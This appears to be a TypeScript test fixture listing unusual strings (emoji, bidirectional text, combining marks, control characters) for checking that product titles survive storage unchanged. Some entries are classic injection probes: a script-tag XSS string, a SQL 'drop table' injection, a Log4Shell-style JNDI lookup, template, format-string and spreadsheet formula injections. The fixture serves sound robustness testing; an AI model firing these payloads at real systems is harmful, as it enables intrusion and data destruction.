/** Texts that break what was only tested with plain ones; every one may be stored, none may be changed on the way. */
import { below, pick, type Random } from './random.ts'

export const ODD_TEXTS: readonly string[] = [
  'Emoji 👩🏽‍🚀🧶🏳️‍🌈 and a family 👨‍👩‍👧‍👦',
  'كرسي مريح ‏(لون أزرق)‏ SKU 42',
  'עברית mixed with English ושוב עברית',
  'Zalgo t̵̢͓̍e̸̛̝x̶̰̑t̴̫̾ with combining marks',
  'é as e\u0301, Å as A\u030a, ﬁ as a ligature',
  '<script>alert("x")</script> & <b>bold</b> &amp; &lt;',
  "Robert'); drop table product;--",
  '${jndi:ldap://images.example/a} {{7*7}} %s %n %00',
  '"double" \'single\' `back` “curly” ‘curly’ «angle» „low“',
  'back\\slash, /slash, C:\\new\\table, \\u0041',
  'tab\there, line\nbreak, carriage\r\nreturn',
  'zero\u200bwidth\u200dand\ufeffmarks, soft\u00adhyphen',
  '\u202eright-to-left override\u202c back again',
  '中文字符、日本語の文字、한국어',
  '𝒜𝓈𝓉𝓇𝒶𝓁 𐍈 characters beyond the first plane 🝳',
  '=1+1, +1, -1, @sum(a1), a "quoted, comma" cell',
  '\u2028line and paragraph\u2029separators',
  'null undefined NaN true -0 1e309',
]

const LONG_TITLE_LENGTH = 1_800

export function oddText(random: Random): string {
  return pick(random, ODD_TEXTS)
}

/** A title that goes on like a data sheet: near the 2,000 characters that are accepted. */
export function longTitle(random: Random, title: string): string {
  let text = title
  while (text.length < LONG_TITLE_LENGTH) text += `, for model ${below(random, 1_000_000).toString(36).toUpperCase()}`
  return text
}
